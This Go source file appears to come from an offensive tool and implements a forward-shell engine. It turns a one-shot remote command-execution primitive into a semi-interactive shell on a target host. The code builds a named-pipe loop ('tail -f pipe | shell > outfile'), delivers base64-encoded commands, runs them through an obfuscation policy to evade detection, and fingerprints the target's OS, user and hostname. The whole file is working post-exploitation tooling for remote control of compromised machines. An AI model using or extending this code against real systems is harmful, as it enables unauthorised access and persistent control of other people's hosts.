// Package shell implements the forward-shell orchestration engine: a session
// state machine that turns a one-shot "run command, get output" primitive
// into a semi-interactive remote shell.
//
// In dumb mode every command is one synchronous primitive call. In forward
// mode the session bootstraps a remote loop (tail -f pipe | shell > outfile)
// and splits work between the operator path, which writes encoded commands
// into the input pipe, and a poller, which continually drains the output
// file. A per-command sentinel marker is the only settlement signal; nothing
// ever blocks on a command that does not terminate.
package shell

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"go.uber.org/zap"

	"github.com/sledgeshell/sledge/encode"
	"github.com/sledgeshell/sledge/internal/token"
	"github.com/sledgeshell/sledge/transport"
)

// Mode selects how Session.Run reaches the remote host.
type Mode int

const (
	// ModeDumb issues one execute call per command.
	ModeDumb Mode = iota
	// ModeForward routes commands through the FIFO forward-shell protocol.
	ModeForward
)

func (m Mode) String() string {
	if m == ModeForward {
		return "forward"
	}
	return "dumb"
}

// Sink receives output that arrives outside a direct operator request:
// late output of detached commands (command is the original command text)
// and unsolicited forward-shell output (command is empty).
type Sink interface {
	LateOutput(command, output string)
}

type noopSink struct{}

func (noopSink) LateOutput(string, string) {}

const (
	defaultTimeout      = 15 * time.Second
	defaultWriteTimeout = 5 * time.Second
	defaultPollInterval = 400 * time.Millisecond
	bootstrapAttempts   = 3
)

// Session holds remote shell state and dispatches commands by mode. All
// methods are safe for concurrent use; the poller and the operator path
// share it by design.
type Session struct {
	logger *zap.SugaredLogger
	prim   transport.Primitive
	sink   Sink

	timeout      time.Duration
	writeTimeout time.Duration
	pollInterval time.Duration
	shellPath    string

	mut        sync.Mutex
	policy     encode.Policy
	mode       Mode
	broken     bool
	closed     bool
	user       string
	hostname   string
	cwd        string
	workDir    string
	madeWork   bool
	in         *FifoChannel
	out        *FifoChannel
	fifoPID    string
	poller     *Poller
	pending    []*pendingCommand
	outBuf     bytes.Buffer
	drainSeq   int
	cwdMark    string
	brokenMark string
	avgRTT     time.Duration

	warnPolicyOnce sync.Once
}

type Option func(s *Session)

// WithTimeout bounds ordinary execute calls.
func WithTimeout(d time.Duration) Option {
	return func(s *Session) {
		s.timeout = d
	}
}

// WithWriteTimeout bounds forward-mode pipe writes and drains. These calls
// only touch the FIFO files, so they return quickly no matter how long the
// forwarded command itself runs.
func WithWriteTimeout(d time.Duration) Option {
	return func(s *Session) {
		s.writeTimeout = d
	}
}

// WithPollInterval sets the drain cadence of the forward-mode poller.
func WithPollInterval(d time.Duration) Option {
	return func(s *Session) {
		s.pollInterval = d
	}
}

// WithShell pins the remote shell binary instead of discovering one.
func WithShell(shell string) Option {
	return func(s *Session) {
		s.shellPath = shell
	}
}

// WithWorkDir pins the remote scratch directory instead of generating one.
func WithWorkDir(dir string) Option {
	return func(s *Session) {
		s.workDir = dir
	}
}

// WithSink routes late and unsolicited output somewhere visible.
func WithSink(sink Sink) Option {
	return func(s *Session) {
		s.sink = sink
	}
}

// SetSink replaces the sink after construction, for consumers that need the
// session to exist before they do.
func (s *Session) SetSink(sink Sink) {
	s.mut.Lock()
	defer s.mut.Unlock()
	s.sink = sink
}

func NewSession(log *zap.SugaredLogger, prim transport.Primitive, policy encode.Policy, opts ...Option) *Session {
	s := &Session{
		logger:       log.Named("session"),
		prim:         prim,
		sink:         noopSink{},
		policy:       policy,
		timeout:      defaultTimeout,
		writeTimeout: defaultWriteTimeout,
		pollInterval: defaultPollInterval,
		cwdMark:      fmt.Sprintf("__cwd_%s__", token.Hex(8)),
		brokenMark:   fmt.Sprintf("__gone_%s__", token.Hex(8)),
	}
	for _, opt := range opts {
		opt(s)
	}
	return s
}

// Bootstrap verifies the primitive works and fetches the identity details
// shown in the prompt. An unreachable target is fatal here and nowhere else.
func (s *Session) Bootstrap(ctx context.Context) error {
	if s.OS() == "" {
		os, err := s.detectOS(ctx)
		if err != nil {
			return fmt.Errorf("initial execution check failed: %w", err)
		}
		s.mut.Lock()
		s.policy.OS = os
		s.mut.Unlock()
		s.logger.Infof("detected remote OS: %s", os)
	}

	user, err := s.execute(ctx, "whoami", s.timeout, false)
	if err != nil {
		return fmt.Errorf("initial execution check failed: %w", err)
	}
	host, _ := s.execute(ctx, "hostname", s.timeout, false)
	cwd, _ := s.execute(ctx, s.pwdCommand(), s.timeout, false)

	s.mut.Lock()
	s.user = strings.TrimSpace(user)
	s.hostname = strings.TrimSpace(host)
	s.cwd = strings.TrimSpace(cwd)
	s.mut.Unlock()

	s.logger.Infow("remote target reachable", "user", s.User(), "hostname", s.Hostname(), "cwd", s.WorkingDir())
	return nil
}

// Run executes one command according to the current mode and returns its
// output with the working-directory probe stripped. In forward mode it
// blocks until the command's sentinel is observed or ctx is cancelled
// (detach); detaching never kills the remote process.
func (s *Session) Run(ctx context.Context, command string) (string, error) {
	command = strings.TrimSpace(command)
	if command == "" {
		return "", nil
	}

	s.mut.Lock()
	mode := s.mode
	broken := s.broken
	closed := s.closed
	s.mut.Unlock()

	if closed {
		return "", ErrBrokenChannel
	}
	if mode == ModeForward {
		if broken {
			return "", ErrBrokenChannel
		}
		return s.runForward(ctx, command)
	}
	return s.runDumb(ctx, command)
}

func (s *Session) runDumb(ctx context.Context, command string) (string, error) {
	raw := command
	if probe := s.cwdProbe(); probe != "" {
		raw += probe
	}
	out, err := s.execute(ctx, raw, s.timeout, false)
	if err != nil {
		return "", err
	}
	visible, cwd := s.extractCwd(out)
	if cwd != "" {
		s.mut.Lock()
		s.cwd = cwd
		s.mut.Unlock()
	}
	return visible, nil
}

func (s *Session) runForward(ctx context.Context, command string) (string, error) {
	sentinel := token.Sentinel()
	wrapped := command
	if probe := s.cwdProbe(); probe != "" {
		wrapped += probe
	}
	wrapped += ";echo " + sentinel

	pc := newPendingCommand(command, wrapped, sentinel)

	s.mut.Lock()
	in := s.in
	s.pending = append(s.pending, pc)
	s.mut.Unlock()

	// The command line travels base64'd so quoting and newlines inside the
	// command cannot break out of the delivery echo.
	payload := base64.StdEncoding.EncodeToString([]byte(wrapped + "\n"))
	writeCmd := fmt.Sprintf("echo '%s'|base64 -d > %s", payload, in.Path)

	if _, err := s.execute(ctx, writeCmd, s.writeTimeout, false); err != nil {
		s.mut.Lock()
		s.removePending(pc)
		s.mut.Unlock()
		return "", fmt.Errorf("delivering command: %w", err)
	}

	s.mut.Lock()
	if pc.state == StateSubmitted {
		pc.state = StateDelivered
	}
	s.mut.Unlock()

	select {
	case <-pc.done:
		return s.settledResult(pc)
	case <-ctx.Done():
		s.mut.Lock()
		select {
		case <-pc.done:
			s.mut.Unlock()
			return s.settledResult(pc)
		default:
		}
		// Leave the command outstanding: the poller keeps draining and a
		// later sentinel still attributes late output to it.
		pc.state = StateDetached
		var partial string
		if len(s.pending) > 0 && s.pending[0] == pc {
			partial = s.outBuf.String()
		}
		s.mut.Unlock()
		s.logger.Infof("detached from %q; output will surface when it arrives", pc.text)
		return partial, ErrDetached
	}
}

// EnterForwardMode bootstraps the remote forward loop: scratch directory,
// input named pipe, output file, and the background tail|shell pipeline.
// On failure the session stays (or returns to) dumb mode and the error wraps
// ErrForwardSetup. Re-entry is allowed after a broken channel.
func (s *Session) EnterForwardMode(ctx context.Context) error {
	s.mut.Lock()
	if s.closed {
		s.mut.Unlock()
		return fmt.Errorf("%w: session closed", ErrForwardSetup)
	}
	if s.mode == ModeForward && !s.broken {
		s.mut.Unlock()
		return fmt.Errorf("%w: forward mode already active", ErrForwardSetup)
	}
	if s.policy.OS != "" && s.policy.OS != encode.OSLinux {
		s.mut.Unlock()
		return fmt.Errorf("%w: forward mode requires a Unix-like target", ErrForwardSetup)
	}
	prevPoller := s.poller
	s.poller = nil
	s.mut.Unlock()

	if prevPoller != nil {
		prevPoller.Stop()
	}

	shellPath, err := s.discoverShell(ctx)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrForwardSetup, err)
	}
	s.logger.Infof("forward shell will use: %s", shellPath)

	workDir, err := s.ensureWorkDir(ctx)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrForwardSetup, err)
	}

	in := &FifoChannel{Path: workDir + "/" + token.Hex(8), Role: RoleInput}
	out := &FifoChannel{Path: workDir + "/" + token.Hex(8), Role: RoleOutput}

	if _, err := s.execute(ctx, fmt.Sprintf("mkfifo %s", in.Path), s.timeout, false); err != nil {
		return fmt.Errorf("%w: creating input pipe: %v", ErrForwardSetup, err)
	}
	if err := s.confirm(ctx, fmt.Sprintf("[ -p %s ] && echo ok", in.Path)); err != nil {
		return fmt.Errorf("%w: input pipe not confirmed: %v", ErrForwardSetup, err)
	}

	startCmd := fmt.Sprintf("tail -f %s|%s > %s 2>&1 & echo $!", in.Path, shellPath, out.Path)
	pidOut, err := s.execute(ctx, startCmd, s.timeout, false)
	if err != nil {
		return fmt.Errorf("%w: starting forward loop: %v", ErrForwardSetup, err)
	}
	pid := strings.TrimSpace(pidOut)
	if !isDigits(pid) {
		s.logger.Warnf("could not capture forward loop PID, got %q", pidOut)
		pid = ""
	}

	if err := s.confirm(ctx, fmt.Sprintf("[ -e %s ] && echo ok", out.Path)); err != nil {
		return fmt.Errorf("%w: output channel not confirmed: %v", ErrForwardSetup, err)
	}

	s.mut.Lock()
	s.mode = ModeForward
	s.broken = false
	s.in = in
	s.out = out
	s.fifoPID = pid
	s.outBuf.Reset()
	s.pending = nil
	s.poller = NewPoller(s.logger, s.pollInterval, s.drainOnce)
	s.poller.Start()
	s.mut.Unlock()

	s.logger.Infow("forward shell ready", "input", in.Path, "output", out.Path, "pid", pid)
	return nil
}

// drainOnce issues one drain call and feeds the result through sentinel
// settlement. It is the poller's tick body, and never blocks the write path.
func (s *Session) drainOnce(ctx context.Context) error {
	s.mut.Lock()
	if s.out == nil || s.broken || s.closed {
		s.mut.Unlock()
		return nil
	}
	cmd := s.out.drainCommand(s.drainSeq, s.brokenMark)
	s.drainSeq++
	s.mut.Unlock()

	out, err := s.execute(ctx, cmd, s.writeTimeout, false)
	if err != nil {
		return err
	}
	if out == "" {
		return nil
	}
	if strings.TrimSpace(out) == s.brokenMark {
		s.mut.Lock()
		s.broken = true
		s.mut.Unlock()
		s.logger.Warn("output channel is gone; forward shell needs re-bootstrap")
		return ErrBrokenChannel
	}

	s.mut.Lock()
	s.outBuf.WriteString(out)
	emissions := s.settleLocked()
	if len(s.pending) == 0 && s.outBuf.Len() > 0 {
		emissions = append(emissions, emission{output: s.outBuf.String()})
		s.outBuf.Reset()
	}
	sink := s.sink
	s.mut.Unlock()

	for _, e := range emissions {
		sink.LateOutput(e.command, e.output)
	}
	return nil
}

// settledResult reads a settled command's outcome. Teardown settles
// outstanding commands as detached, which still surfaces as a detach to the
// waiting caller.
func (s *Session) settledResult(pc *pendingCommand) (string, error) {
	s.mut.Lock()
	output := pc.output
	detached := pc.state == StateDetached
	s.mut.Unlock()
	if detached {
		return output, ErrDetached
	}
	return output, nil
}

type emission struct {
	command string
	output  string
}

// settleLocked scans the accumulated output for the head command's sentinel,
// possibly settling several commands in one pass. The sentinel may arrive
// split across any number of drains; scanning the accumulated buffer makes
// settlement independent of drain granularity. Caller holds s.mut.
func (s *Session) settleLocked() []emission {
	var emissions []emission
	for len(s.pending) > 0 {
		head := s.pending[0]
		buf := s.outBuf.Bytes()
		idx := bytes.Index(buf, []byte(head.sentinel))
		if idx < 0 {
			break
		}

		window := string(buf[:idx])
		rest := buf[idx+len(head.sentinel):]
		if len(rest) > 0 && rest[0] == '\n' {
			rest = rest[1:]
		}
		remainder := append([]byte(nil), rest...)
		s.outBuf.Reset()
		s.outBuf.Write(remainder)

		visible, cwd := s.extractCwd(window)
		if cwd != "" {
			s.cwd = cwd
		}

		wasDetached := head.state == StateDetached
		head.settle(visible)
		s.pending = s.pending[1:]
		if wasDetached {
			emissions = append(emissions, emission{command: head.text, output: visible})
		}
	}
	return emissions
}

// Close tears the session down: poller first, then the remote forward loop
// and its files, so no drain ever races the cleanup.
func (s *Session) Close(ctx context.Context) error {
	s.mut.Lock()
	if s.closed {
		s.mut.Unlock()
		return nil
	}
	s.closed = true
	mode := s.mode
	poller := s.poller
	pid := s.fifoPID
	in, out := s.in, s.out
	workDir := s.workDir
	madeWork := s.madeWork
	s.mut.Unlock()

	if poller != nil {
		poller.Stop()
	}

	// Release anyone still waiting on a sentinel.
	s.mut.Lock()
	for _, pc := range s.pending {
		select {
		case <-pc.done:
		default:
			pc.state = StateDetached
			pc.settle("")
		}
	}
	s.pending = nil
	s.mut.Unlock()

	if mode == ModeForward {
		if pid != "" {
			s.cleanupExec(ctx, fmt.Sprintf("kill %s", pid))
			s.cleanupExec(ctx, fmt.Sprintf("kill -9 %s 2>/dev/null", pid))
		}
		if in != nil {
			s.cleanupExec(ctx, fmt.Sprintf("rm -f %s", in.Path))
		}
		if out != nil {
			s.cleanupExec(ctx, fmt.Sprintf("rm -f %s", out.Path))
		}
	}
	if madeWork && workDir != "" {
		s.cleanupExec(ctx, fmt.Sprintf("rm -rf %s", workDir))
	}
	return nil
}

// cleanupExec bypasses the encoding policy: teardown has to work even when
// the obfuscation pipeline is what broke.
func (s *Session) cleanupExec(ctx context.Context, command string) {
	if _, err := s.execute(ctx, command, s.writeTimeout, true); err != nil {
		s.logger.Debugf("cleanup command failed: %s", err)
	}
}

// execute encodes a command per the session policy, runs it through the
// primitive, and decodes the result. bypass skips the encoding pipeline.
func (s *Session) execute(ctx context.Context, raw string, timeout time.Duration, bypass bool) (string, error) {
	s.mut.Lock()
	policy := s.policy
	if avg := s.avgRTT; avg > 0 && timeout > 0 {
		// A slow transport needs headroom over its historical round trip.
		if adjusted := avg * 3 / 2; adjusted > timeout {
			timeout = adjusted
		}
	}
	s.mut.Unlock()

	wire := raw
	if !bypass {
		var err error
		wire, err = encode.Encode(raw, policy)
		if errors.Is(err, encode.ErrPolicyMissing) {
			s.warnPolicyOnce.Do(func() {
				s.logger.Warnf("no obfuscation rule for OS %q, sending commands unmodified", policy.OS)
			})
		}
	}

	start := time.Now()
	result, err := s.prim.Execute(ctx, wire, timeout)
	if err != nil {
		return "", err
	}
	elapsed := time.Since(start)

	s.mut.Lock()
	if s.avgRTT == 0 {
		s.avgRTT = elapsed
	} else {
		// Exponential moving average, most recent observation weighted 0.4.
		s.avgRTT = time.Duration(0.4*float64(elapsed) + 0.6*float64(s.avgRTT))
	}
	s.mut.Unlock()

	if bypass {
		return result, nil
	}
	plain, err := encode.Decode(result, policy)
	if err != nil {
		return "", fmt.Errorf("decoding output of %q: %w", raw, err)
	}
	return plain, nil
}

// discoverShell validates candidate shells in preference order, mirroring
// what interactive operators reach for: the current shell, then fancier to
// plainer ones.
func (s *Session) discoverShell(ctx context.Context) (string, error) {
	if s.shellPath != "" {
		return s.shellPath, nil
	}
	for _, candidate := range []string{"$0", "zsh", "bash", "sh"} {
		out, err := s.execute(ctx, fmt.Sprintf("command -v %s", candidate), s.timeout, true)
		if err != nil {
			continue
		}
		lower := strings.ToLower(strings.TrimSpace(out))
		if lower != "" && !strings.Contains(lower, "not found") && !strings.Contains(lower, "no such file") {
			s.shellPath = candidate
			return candidate, nil
		}
	}
	return "", ErrNoShell
}

func (s *Session) ensureWorkDir(ctx context.Context) (string, error) {
	s.mut.Lock()
	if s.madeWork {
		wd := s.workDir
		s.mut.Unlock()
		return wd, nil
	}
	if s.workDir == "" {
		s.workDir = token.WorkDir()
	}
	wd := s.workDir
	s.mut.Unlock()

	if _, err := s.execute(ctx, fmt.Sprintf("mkdir -p %s", wd), s.timeout, false); err != nil {
		return "", fmt.Errorf("creating working directory: %w", err)
	}
	s.mut.Lock()
	s.madeWork = true
	s.mut.Unlock()
	s.logger.Infof("remote working directory: %s", wd)
	return wd, nil
}

// confirm retries a check command a bounded number of times, succeeding when
// it prints ok.
func (s *Session) confirm(ctx context.Context, check string) error {
	var lastErr error
	for attempt := 0; attempt < bootstrapAttempts; attempt++ {
		out, err := s.execute(ctx, check, s.writeTimeout, false)
		if err == nil && strings.Contains(out, "ok") {
			return nil
		}
		lastErr = err
		time.Sleep(time.Duration(attempt+1) * 100 * time.Millisecond)
	}
	if lastErr != nil {
		return lastErr
	}
	return fmt.Errorf("check %q never confirmed", check)
}

func (s *Session) detectOS(ctx context.Context) (string, error) {
	out, err := s.execute(ctx, "ls /", s.timeout, true)
	if err == nil {
		lower := strings.ToLower(out)
		if strings.Contains(lower, "bin") || strings.Contains(lower, "etc") {
			return encode.OSLinux, nil
		}
		if strings.Contains(lower, "windows") || strings.Contains(lower, "program files") {
			return encode.OSWindows, nil
		}
	}
	verOut, verErr := s.execute(ctx, "ver", s.timeout, true)
	if verErr == nil && strings.Contains(strings.ToLower(verOut), "microsoft") {
		return encode.OSWindows, nil
	}
	if err != nil && verErr != nil {
		return "", err
	}
	return encode.OSLinux, nil
}

// cwdProbe returns the suffix appended to every dispatched command so the
// reply carries the remote working directory on its final line. Isolated
// here so another tracking strategy (explicit cd parsing, say) can replace
// it without touching the FIFO protocol.
func (s *Session) cwdProbe() string {
	if s.OS() != encode.OSLinux {
		return ""
	}
	return ";echo " + s.cwdMark + "$PWD"
}

// extractCwd strips the probe line from output and returns the reported
// directory, if any. Unrecognized output passes through untouched.
func (s *Session) extractCwd(out string) (visible, cwd string) {
	idx := strings.LastIndex(out, s.cwdMark)
	if idx < 0 {
		return out, ""
	}
	after := out[idx+len(s.cwdMark):]
	line, rest, _ := strings.Cut(after, "\n")
	return out[:idx] + rest, strings.TrimSpace(line)
}

func (s *Session) pwdCommand() string {
	if s.OS() == encode.OSWindows {
		return "(Get-Location).Path"
	}
	return "pwd"
}

// removePending drops a command that never made it into the input pipe.
// Caller holds s.mut.
func (s *Session) removePending(pc *pendingCommand) {
	for i, p := range s.pending {
		if p == pc {
			s.pending = append(s.pending[:i], s.pending[i+1:]...)
			return
		}
	}
}

func (s *Session) Mode() Mode {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.mode
}

// Degraded reports that forward mode lost its output channel and needs
// re-bootstrapping before forward commands can run again.
func (s *Session) Degraded() bool {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.broken
}

func (s *Session) OS() string {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.policy.OS
}

func (s *Session) User() string {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.user
}

func (s *Session) Hostname() string {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.hostname
}

func (s *Session) WorkingDir() string {
	s.mut.Lock()
	defer s.mut.Unlock()
	return s.cwd
}

// Outstanding returns the number of pending forward-mode commands, detached
// ones included.
func (s *Session) Outstanding() int {
	s.mut.Lock()
	defer s.mut.Unlock()
	return len(s.pending)
}

func isDigits(s string) bool {
	if s == "" {
		return false
	}
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return true
}

// RemoteRunner is the capability-limited session view handed to actions: it
// can run commands and read session facts but cannot switch modes or tear
// down the forward-shell state machine.
type RemoteRunner struct {
	s *Session
}

// Restricted returns the action-facing view of the session.
func (s *Session) Restricted() *RemoteRunner {
	return &RemoteRunner{s: s}
}

func (r *RemoteRunner) Run(ctx context.Context, command string) (string, error) {
	return r.s.Run(ctx, command)
}

func (r *RemoteRunner) OS() string { return r.s.OS() }

func (r *RemoteRunner) WorkingDir() string { return r.s.WorkingDir() }
